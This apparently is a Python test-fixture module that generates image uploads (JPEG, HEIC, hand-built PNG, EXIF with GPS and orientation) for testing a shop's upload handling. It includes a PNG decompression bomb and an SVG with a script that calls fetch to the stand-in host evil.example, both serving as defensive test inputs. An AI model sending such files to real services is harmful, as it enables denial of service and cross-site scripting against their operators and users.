"""Real files of every kind that a shopper may send, made byte by byte where no library would write them."""

from __future__ import annotations

import struct
import zlib
from io import BytesIO

import numpy as np
from PIL import Image

RED, BLUE = (200, 30, 40), (20, 40, 210)


def scene(width: int = 120, height: int = 80) -> Image.Image:
    """Paint red left of blue, with a white top left corner that shows which way is up."""
    image = Image.new("RGB", (width, height), RED)
    image.paste(BLUE, (width // 2, 0, width, height))
    image.paste((255, 255, 255), (0, 0, width // 4, height // 4))
    return image


def written(image: Image.Image, kind: str, **options: object) -> bytes:
    buffer = BytesIO()
    image.save(buffer, kind, **options)
    return buffer.getvalue()


def jpeg(**options: object) -> bytes:
    return written(scene(), "JPEG", quality=95, **options)


def heic(**options: object) -> bytes:
    import pillow_heif

    buffer = BytesIO()
    pillow_heif.from_pillow(scene()).save(buffer, quality=90, **options)
    return buffer.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, rows: bytes, *extra: bytes, depth: int = 8, colour: int = 0) -> bytes:
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(extra) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def png_bomb(side: int = 30_000) -> bytes:
    """A PNG of a megabyte that would be 0.9 GB."""
    packer = zlib.compressobj(9)
    row = bytes(side + 1)
    rows = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    return png(side, side, rows)


def exif_of(orientation: int = 1, padding: int = 0) -> bytes:
    """Make EXIF with an orientation, a place, and a maker's note of `padding` bytes."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "Phone" + "x" * padding
    exif.get_ifd(0x8825).update({1: "N", 2: (48.0, 51.0, 29.0), 3: "E", 4: (2.0, 17.0, 40.0)})
    return exif.tobytes()


def without_adobe(data: bytes) -> bytes:
    """Cut the APP14 segment out of a JPEG."""
    start = data.index(b"\xff\xee")
    (length,) = struct.unpack(">H", data[start + 2 : start + 4])
    return data[:start] + data[start + 2 + length :]


def noise(side: int) -> Image.Image:
    rows = np.random.default_rng(0).integers(0, 256, (side, side, 3), dtype=np.uint8)
    return Image.fromarray(rows)


SVG = b"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><script>fetch('//evil.example')</script></svg>"""
